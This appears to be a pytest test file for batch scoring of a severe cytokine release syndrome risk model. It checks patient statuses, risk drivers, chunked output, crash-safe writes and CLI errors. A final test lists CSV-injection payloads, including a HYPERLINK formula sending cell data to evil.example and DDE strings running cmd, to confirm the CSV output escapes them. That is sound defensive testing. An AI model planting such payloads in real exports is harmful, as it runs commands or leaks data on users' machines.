"""Batch scoring: statuses, drivers, streaming output, atomic writes, agreement with the pyfunc."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from cohorts.errors import CohortError
from cohorts.io import Cohort, write_cohort
from features.transformer import KineticFeatures
from models.crossval import TrainConfig
from models.drivers import contributions, parse_reasons, top_indices
from models.predict import STATUSES, output_columns, predict_cohort
from models.train import train_model
from scoring.batch import (
    MODEL_COLUMNS,
    LoadedModel,
    ScoringError,
    canonical_source,
    check_schema,
    score_cohort,
)

XGB = {"n_estimators": 40, "early_stopping_rounds": 10, "learning_rate": 0.2, "max_depth": 3}
CFG = TrainConfig(xgboost=XGB, search_space={"max_depth": [3]}, n_folds=2, inner_folds=2, seed=1)
LANDMARKS = [24.0, 48.0]


@pytest.fixture(scope="module")
def bundle():
    from cohorts.simulate import iter_chunks
    from tests.conftest import MIX

    c = next(iter_chunks(800, seed=21, therapy_mix=MIX))
    kf = KineticFeatures()
    matrix = kf.build(c.labs, c.patients, [24.0, 48.0, 72.0], events=c.events)
    b, _ = train_model(matrix, kf, CFG)
    b.meta["risk_band_edges"] = [0.1, 0.3]
    return b


@pytest.fixture(scope="module")
def model(bundle):
    return LoadedModel(bundle, "severe-crs", "3", "champion", "models:/severe-crs@champion")


@pytest.fixture(scope="module")
def every_status(small_cohort):
    """A cohort with every status: ordinary patients, one already severe, one without labs, one with
    post-infusion labs only, one whose every lab row was quarantined (invalid_input)."""
    keep = small_cohort.patients["patient_id"].head(30)
    patients = small_cohort.patients[small_cohort.patients["patient_id"].isin(keep)].copy()
    labs = small_cohort.labs[small_cohort.labs["patient_id"].isin(keep)].copy()
    events = small_cohort.events[small_cohort.events["patient_id"].isin(keep)].copy()
    first = patients["patient_id"].iloc[0]
    patients["severe_onset_hours"] = np.where(patients["patient_id"] == first, 10.0, np.nan)
    late = patients["patient_id"].iloc[1]
    labs = labs[(labs["patient_id"] != late) | (labs["hours_since_infusion"] > 0)]
    extra = pd.DataFrame({"patient_id": ["NO-LABS", "ALL-QUARANTINED"], "therapy": ["axi-cel", "tisa-cel"],
                          "disease": ["LBCL", "LBCL"], "age_years": [60.0, 50.0]})
    patients = pd.concat([patients, extra], ignore_index=True)
    return Cohort(labs.reset_index(drop=True), patients, events.reset_index(drop=True), {"synthetic": True})


def _folder(tmp_path, cohort: Cohort, quarantined: list[str] = ()) -> str:
    folder = tmp_path / "cohort"
    write_cohort(cohort, folder)
    q = pd.DataFrame({"patient_id": list(quarantined), "reason": "unknown_unit"})
    q.to_parquet(folder / "quarantine.parquet", index=False)
    return folder


def _score(tmp_path, model, cohort, name="s.parquet", **kw):
    folder = _folder(tmp_path, cohort, ["ALL-QUARANTINED"])
    out = tmp_path / name
    summary = score_cohort(folder, "", out, model=model, progress=False,
                           **({"landmarks": LANDMARKS} | kw))
    frame = pd.read_parquet(out) if out.suffix == ".parquet" else pd.read_csv(out, keep_default_na=False,
                                                                              na_values=[""])
    return summary, frame


def test_counts_reconcile_with_every_status(tmp_path, model, every_status):
    summary, out = _score(tmp_path, model, every_status, chunk_patients=7)
    n = len(every_status.patients)
    assert len(out) == n * len(LANDMARKS) == summary["rows_written"] and summary["patients_read"] == n
    assert list(out.columns) == [*output_columns(), *MODEL_COLUMNS]
    assert set(out["patient_id"]) == set(every_status.patients["patient_id"])
    assert (out.groupby("patient_id").size() == len(LANDMARKS)).all()
    # every status but outside_trained_landmarks, which only --as-of latest gives
    assert set(out["status"]) == set(STATUSES) - {"outside_trained_landmarks"}, out["status"].value_counts()
    assert out["status"].value_counts().to_dict() == summary["by_status"]
    s = out.set_index(["patient_id", "landmark_hours"])["status"]
    assert s[("NO-LABS", 24.0)] == "no_data_before_landmark" and s[("ALL-QUARANTINED", 48.0)] == "invalid_input"
    assert s[(every_status.patients["patient_id"].iloc[0], 24.0)] == "already_severe"
    assert s[(every_status.patients["patient_id"].iloc[1], 24.0)] == "no_baseline"
    scored = out["status"] == "scored"
    assert out.loc[scored, "probability"].between(0, 1).all() and out.loc[~scored, "probability"].isna().all()
    assert (out.loc[scored, "risk_band"] != "").all() and (out.loc[~scored, "risk_band"] == "").all()
    assert (out["model_version"] == "3").all() and (out["model_alias"] == "champion").all()
    assert out["scored_at"].nunique() == 1


def test_zero_patient_cohort_gives_an_empty_valid_output(tmp_path, model, every_status):
    empty = Cohort(every_status.labs.iloc[:0], every_status.patients.iloc[:0], every_status.events.iloc[:0], {})
    for name in ("e.parquet", "e.csv"):
        summary, out = _score(tmp_path, model, empty, name=name)
        assert len(out) == 0 and list(out.columns) == [*output_columns(), *MODEL_COLUMNS]
        assert summary["patients_read"] == 0


def test_interrupted_run_leaves_no_final_file(tmp_path, model, every_status, monkeypatch):
    import scoring.batch as scoring

    calls = {"n": 0}
    real = scoring.predict_cohort

    def flaky(*args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 2:
            raise KeyboardInterrupt  # e.g. Ctrl-C in the middle of the stream
        return real(*args, **kwargs)

    monkeypatch.setattr(scoring, "predict_cohort", flaky)
    with pytest.raises(KeyboardInterrupt):
        _score(tmp_path, model, every_status, chunk_patients=5)
    assert not (tmp_path / "s.parquet").exists()
    assert not [p for p in tmp_path.iterdir() if "partial" in p.name]


def test_scoring_twice_is_identical_apart_from_scored_at(tmp_path, model, every_status):
    _, a = _score(tmp_path, model, every_status, name="a.csv", reasons="all")
    _, b = _score(tmp_path, model, every_status, name="b.csv", reasons="all")
    pd.testing.assert_frame_equal(a.drop(columns="scored_at"), b.drop(columns="scored_at"))


def test_chunked_scoring_equals_single_pass(tmp_path, model, every_status):
    _, one = _score(tmp_path, model, every_status, name="one.parquet", chunk_patients=100_000, reasons="all")
    _, many = _score(tmp_path, model, every_status, name="many.parquet", chunk_patients=3, reasons="all")
    pd.testing.assert_frame_equal(one.drop(columns="scored_at"), many.drop(columns="scored_at"))


def test_scores_equal_the_pyfunc(tmp_path, model, bundle, every_status):
    import inspect

    from models.model_input import to_model_input
    from models.serving import SevereCrsModel

    pyfunc = SevereCrsModel()
    pyfunc.bundle = bundle
    cohort = every_status
    if "events" in inspect.signature(to_model_input).parameters:  # the model input carries treatments
        frame = to_model_input(cohort.labs, cohort.patients, cohort.events, known_severe=True)
    else:  # an older model input without treatments: score ours with treatments unknown too
        cohort = Cohort(cohort.labs, cohort.patients, None, {})
        frame = to_model_input(cohort.labs, cohort.patients)
    folder = tmp_path / "cohort"
    write_cohort(Cohort(cohort.labs, cohort.patients, cohort.events if cohort.events is not None
                        else every_status.events.iloc[:0], {}), folder)
    if cohort.events is None:
        (folder / "events.parquet").unlink()
    score_cohort(folder, "", tmp_path / "s.parquet", model=model, landmarks=LANDMARKS, reasons="all", progress=False)
    ours = pd.read_parquet(tmp_path / "s.parquet")
    theirs = pyfunc.predict(None, frame, params={"landmarks": "24,48", "reasons": "all"})
    keys = ["patient_id", "landmark_hours"]
    merged = ours.merge(theirs, on=keys, suffixes=("", "_pyfunc"))
    assert len(merged) == len(theirs) == len(ours)
    both = (merged["status_pyfunc"] == "scored") & (merged["status"] == "scored")
    assert both.sum() > 20
    np.testing.assert_allclose(merged.loc[both, "probability"], merged.loc[both, "probability_pyfunc"], rtol=1e-6)
    assert (merged.loc[both, "risk_band"] == merged.loc[both, "risk_band_pyfunc"]).all()


def test_drivers_are_pred_contribs_and_add_up_to_the_margin(bundle, every_status):
    out = predict_cohort(bundle, every_status.labs, every_status.patients, LANDMARKS, events=every_status.events,
                         reasons="all")
    matrix = bundle.features.build(every_status.labs, every_status.patients, LANDMARKS, events=every_status.events)
    scored = (out["status"] == "scored").to_numpy()
    X = bundle.features.transform(matrix[scored])
    values, bias = contributions(bundle.booster, X)
    np.testing.assert_allclose(values.sum(axis=1) + bias, bundle.margin(X), atol=1e-4)
    top = top_indices(values, 3)
    names = np.asarray(X.columns)
    rows = out[scored].reset_index(drop=True)
    for j in range(3):
        assert (rows[f"driver_{j + 1}_feature"].to_numpy() == names[top[:, j]]).all()
        np.testing.assert_allclose(rows[f"driver_{j + 1}_contribution"], values[np.arange(len(X)), top[:, j]],
                                   rtol=1e-6)
    mag = np.abs(rows[[f"driver_{j}_contribution" for j in (1, 2, 3)]].to_numpy())
    assert (mag[:, 0] >= mag[:, 1]).all() and (mag[:, 1] >= mag[:, 2]).all()
    assert (mag[:, 0] >= np.abs(values).max(axis=1) - 1e-9).all()
    text = rows["driver_1_text"]
    assert text.str.contains(r"(?:raises|lowers) risk (?:by \d+\.\d percentage points?|slightly)").all()
    assert not text.str.contains("log-odds").any() and (text.str.count(":") == 1).all()
    assert (rows["top_drivers"] == rows[["driver_1_text", "driver_2_text", "driver_3_text"]]
            .agg("; ".join, axis=1)).all()
    unscored = out[~scored]
    assert (unscored["top_drivers"] == "").all() and unscored["driver_1_contribution"].isna().all()


def test_driver_sentence_reads_like_a_clinician_would():
    from models.drivers import describe

    text = describe("IL6__log2_fc", "IL-6 fold change vs baseline (log2)", 5.3, 0.4213, points=8.21)
    assert text == "IL-6 39× its pre-infusion value: raises risk by 8.2 percentage points"
    assert describe("IL6__latest", "IL-6 latest value", 1234.0, -0.1, "pg/mL").startswith(
        "IL-6 1,234 pg/mL (latest): lowers risk")
    assert "not available" in describe("ANG2__log2_fc", "Ang-2 fold change", float("nan"), 0.2)
    assert describe("therapy=axi-cel", "therapy: axi-cel", 0.0, -0.3).startswith("therapy other than axi-cel")


def test_reasons_policy(bundle, every_status):
    args = (bundle, every_status.labs, every_status.patients, LANDMARKS)
    none = predict_cohort(*args, events=every_status.events, reasons="none")
    assert (none["top_drivers"] == "").all()
    above = predict_cohort(*args, events=every_status.events, reasons="above:0.2")
    has = above["top_drivers"] != ""
    assert (above.loc[has, "probability"] >= 0.2).all() and (above.loc[~has, "probability"].fillna(0) < 0.2).all()
    default = predict_cohort(*args, events=every_status.events)  # default: above the first band edge (0.1)
    has = default["top_drivers"] != ""
    assert (default.loc[has, "probability"] >= 0.1).all() and (default.loc[~has, "probability"].fillna(0) < 0.1).all()
    pd.testing.assert_frame_equal(none.iloc[:, :5], default.iloc[:, :5])
    for bad in ("above:2", "some", "above:x"):
        with pytest.raises(CohortError):
            parse_reasons(bad, 0.1)


def test_as_of_latest_equals_a_landmark_at_that_time(bundle, every_status):
    latest = predict_cohort(bundle, every_status.labs, every_status.patients, None, events=every_status.events,
                            as_of_latest=True, reasons="all")
    assert len(latest) == len(every_status.patients) and latest["patient_id"].is_unique
    assert np.isnan(latest.set_index("patient_id").loc["NO-LABS", "landmark_hours"])
    for _, row in latest[latest["status"] == "scored"].head(5).iterrows():
        one = every_status.patients[every_status.patients["patient_id"] == row["patient_id"]]
        ref = predict_cohort(bundle, every_status.labs, one, [row["landmark_hours"]], events=every_status.events,
                             reasons="all")
        pd.testing.assert_frame_equal(ref.reset_index(drop=True), latest[latest["patient_id"] == row["patient_id"]]
                                      .reset_index(drop=True))


def test_values_never_seen_in_training_are_missing_not_a_crash(bundle, small_cohort):
    patients = small_cohort.patients.head(20).assign(therapy="a-new-bispecific", disease="something else")
    labs = small_cohort.labs[small_cohort.labs["patient_id"].isin(patients["patient_id"])]
    routine = labs[labs["analyte"].isin(["CRP", "FERRITIN", "TEMP_MAX", "MCP1"])]  # no cytokines, no Ang-2
    out = predict_cohort(bundle, routine, patients, LANDMARKS, reasons="all")
    scored = out[out["status"] == "scored"]
    assert len(out) == 40 and len(scored) > 0 and scored["probability"].between(0, 1).all()


def test_feature_schema_mismatch_is_a_clear_input_error(bundle):
    import copy

    broken = copy.copy(bundle)
    broken.features = copy.deepcopy(bundle.features)
    broken.features.feature_names_out_ = broken.features.feature_names_out_[:-1]
    with pytest.raises(ScoringError, match="schema mismatch"):
        check_schema(broken)
    check_schema(bundle)


def test_unreadable_cohort_and_bad_output_name_are_input_errors(tmp_path, model):
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "patients.parquet").write_text("not parquet")
    (tmp_path / "c" / "labs.parquet").write_text("not parquet")
    with pytest.raises(CohortError, match=r"Cannot read .*patients\.parquet as Parquet"):
        canonical_source(tmp_path / "c", ["IL6"])
    with pytest.raises(ScoringError, match=r"\.csv or \.parquet"):
        score_cohort(tmp_path / "c", "", tmp_path / "s.xlsx", model=model, landmarks=[24.0])
    assert not (tmp_path / "s.xlsx").exists()


def test_long_format_through_ingest_quarantines_beside_the_output(tmp_path, model, every_status):
    from tests.exporters import to_long

    cohort = Cohort(every_status.labs, every_status.patients[every_status.patients["patient_id"] != "ALL-QUARANTINED"],
                    every_status.events, {})
    folder = to_long(cohort, tmp_path / "long")
    labs = pd.read_csv(folder / "labs.csv")
    bad = labs[labs["patient_id"] == labs["patient_id"].iloc[-1]].assign(patient_id="ALL-QUARANTINED", unit="furlongs")
    pd.concat([labs, bad]).to_csv(folder / "labs.csv", index=False)
    pats = pd.read_csv(folder / "patients.csv")
    pd.concat([pats, pats.tail(1).assign(patient_id="ALL-QUARANTINED")]).to_csv(folder / "patients.csv", index=False)
    out = tmp_path / "scores.csv"
    summary = score_cohort(folder, "", out, fmt="long", model=model, landmarks=LANDMARKS, progress=False)
    scores = pd.read_csv(out)
    assert len(scores) == 2 * len(pats) + 2 and summary["quarantine"]["rows"] >= len(bad)
    assert (scores.loc[scores["patient_id"] == "ALL-QUARANTINED", "status"] == "invalid_input").all()
    assert (tmp_path / "scores.quarantine.parquet").exists() and (tmp_path / "scores.validation.json").exists()


def test_cli_unknown_model_uri_is_exit_2_without_output(tmp_path, monkeypatch, capsys, every_status):
    from pipeline.cli import main

    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path}/mlflow.db")
    folder = _folder(tmp_path, every_status)
    code = main(["score", "--cohort", str(folder), "--model", "models:/no-such-model@champion",
                 "--landmarks", "24", "--out", str(tmp_path / "s.csv")])
    err = capsys.readouterr().err
    assert code == 2 and "Cannot load model" in err and "Traceback" not in err
    assert not (tmp_path / "s.csv").exists()


def test_progress_is_a_bar_on_a_terminal_and_log_lines_otherwise():
    import io

    from crs_settings.progress import Progress

    plain = io.StringIO()
    p = Progress(20, unit="patients", desc="crs score", enabled=False, stream=plain, every_seconds=0)
    p.update(10)
    p.update(10)
    p.close()
    assert plain.getvalue().count("crs score:") == 2 and "20/20 patients (100%)" in plain.getvalue()
    bar = io.StringIO()
    p = Progress(20, unit="patients", desc="crs score", enabled=True, stream=bar)
    p.update(20)
    p.close()
    assert "100%|" in bar.getvalue() and "patients/s" in bar.getvalue() and "(100%) in" not in bar.getvalue()


def test_cli_landmarks_and_as_of_are_exclusive(tmp_path):
    from pipeline.cli import main

    with pytest.raises(SystemExit) as exc:
        main(["score", "--cohort", str(tmp_path), "--landmarks", "24", "--as-of", "latest",
              "--out", str(tmp_path / "s.csv")])
    assert exc.value.code == 2


def test_as_of_latest_outside_the_trained_landmarks_gets_a_status_and_one_warning(tmp_path, bundle, every_status):
    import copy

    from models.predict import trained_range

    trained = copy.copy(bundle)
    trained.meta = {**bundle.meta, "landmarks_hours": [24.0, 48.0, 72.0]}
    lo, hi = trained_range(trained, 12.0)
    assert (lo, hi) == (12.0, 84.0)
    args = (trained, every_status.labs, every_status.patients, None)
    out = predict_cohort(*args, events=every_status.events, as_of_latest=True, reasons="all",
                         landmark_tolerance_hours=12.0)
    wide = predict_cohort(*args, events=every_status.events, as_of_latest=True, reasons="all",
                          landmark_tolerance_hours=1000.0)
    when = out["landmark_hours"]
    outside = out["status"] == "outside_trained_landmarks"
    assert outside.sum() > 3
    assert ((when[outside] < lo) | (when[outside] > hi)).all()
    assert out.loc[outside, "probability"].isna().all() and (out.loc[outside, "risk_band"] == "").all()
    assert (out.loc[outside, "top_drivers"] == "").all()
    # the other statuses come first (already severe, no data), and inside the range nothing changes
    inside = ~outside & when.between(lo, hi)
    pd.testing.assert_frame_equal(out[inside], wide[inside])
    assert (wide["status"] != "outside_trained_landmarks").all()
    assert (wide.loc[outside, "status"] == "scored").sum() > 0  # they would have been scored
    # crs score: the summary says it once, with the count
    model = LoadedModel(trained, "severe-crs", "3", "champion", "models:/severe-crs@champion")
    summary, frame = _score(tmp_path, model, every_status, as_of_latest=True, landmarks=None,
                            landmark_tolerance_hours=12.0)
    n = int((frame["status"] == "outside_trained_landmarks").sum())
    assert n == summary["by_status"]["outside_trained_landmarks"] > 3
    assert len(summary["warnings"]) == 1 and summary["warnings"][0].startswith(f"{n:,} patients at a time outside")
    assert "24, 48, 72 h, ±12 h" in summary["warnings"][0]
    summary, _ = _score(tmp_path, model, every_status, name="l.parquet", landmarks=[48.0, 200.0])
    assert summary["warnings"] == ["landmark 200 h outside the landmarks the model was trained on (24, 48, 72 h, "
                                   "±12 h): scored as asked, but the model never saw such a time"]


# ----------------------------------------------------------------------------- crash consistency (issue 15)

def _temporaries(out):
    return sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}."))


def test_csv_after_a_killed_run_with_the_same_pid_holds_only_the_new_rows(tmp_path, model, every_status):
    """In a container `crs` is PID 1 on every run, so a killed run's temporary carries the next run's
    pid; its rows must never reach the next run's output."""
    import os

    _, earlier = _score(tmp_path, model, every_status, name="earlier.csv")
    killed = (tmp_path / "earlier.csv").read_bytes()
    stale = tmp_path / f".s.csv.partial-{os.getpid()}"  # the name a killed run with this pid left
    stale.write_bytes(killed[:len(killed) // 2])
    summary, out = _score(tmp_path, model, every_status, name="s.csv")
    assert len(out) == summary["rows_written"] == len(every_status.patients) * len(LANDMARKS)
    assert not out.duplicated(["patient_id", "landmark_hours"]).any() and out["scored_at"].nunique() == 1
    assert _temporaries(tmp_path / "s.csv") == []


def test_killed_scoring_run_leaves_no_output_and_the_next_run_cleans_up(tmp_path, model, bundle, every_status):
    import subprocess
    import sys

    from tests.conftest import ROOT

    bundle.save(tmp_path / "bundle")
    folder = _folder(tmp_path, every_status, ["ALL-QUARANTINED"])
    out = tmp_path / "s.csv"
    child = f"""
from tests.faults import inject
inject(kill_before=["scoring.batch:predict_cohort@3"])  # SIGKILL while the third chunk is scored
from models.bundle import ModelBundle
from scoring.batch import LoadedModel, score_cohort
model = LoadedModel(ModelBundle.load({str(tmp_path / "bundle")!r}), "severe-crs", "3", "champion", "")
score_cohort({str(folder)!r}, "", {str(out)!r}, model=model, landmarks=[24.0, 48.0], chunk_patients=5,
             progress=False)
"""
    proc = subprocess.run([sys.executable, "-c", child], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert proc.returncode == -9, proc.stderr
    assert not out.exists() and len(_temporaries(out)) == 1  # the killed run's half-written temporary
    summary, frame = _score(tmp_path, model, every_status, name="s.csv")
    assert len(frame) == summary["rows_written"] == len(every_status.patients) * len(LANDMARKS)
    assert _temporaries(out) == []


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path, model, every_status):
    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading apostrophe in
    CSV output (a spreadsheet shows them as text); Parquet keeps the exact ids."""
    import csv

    ids = every_status.patients["patient_id"].head(len(HOSTILE)).tolist()
    rename = dict(zip(ids, HOSTILE, strict=True))
    cohort = Cohort(every_status.labs.assign(patient_id=every_status.labs["patient_id"].replace(rename)),
                    every_status.patients.assign(patient_id=every_status.patients["patient_id"].replace(rename)),
                    every_status.events.assign(patient_id=every_status.events["patient_id"].replace(rename)), {})
    _, frame = _score(tmp_path, model, cohort, name="s.csv", reasons="all")
    assert set(frame["patient_id"]) >= {"'" + h for h in HOSTILE}
    assert not set(frame["patient_id"]) & set(HOSTILE)
    with open(tmp_path / "s.csv", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert len(body) == len(cohort.patients) * len(LANDMARKS)  # a CR inside a cell did not split a row
    text = [i for i, c in enumerate(header) if c in ("patient_id", "status", "risk_band", "top_drivers")
            or c.endswith(("_text", "_feature")) or c in MODEL_COLUMNS]
    for row in body:
        for i in text:
            assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (header[i], row[i])
    _, parquet = _score(tmp_path, model, cohort, name="s.parquet")
    assert set(parquet["patient_id"]) >= set(HOSTILE)
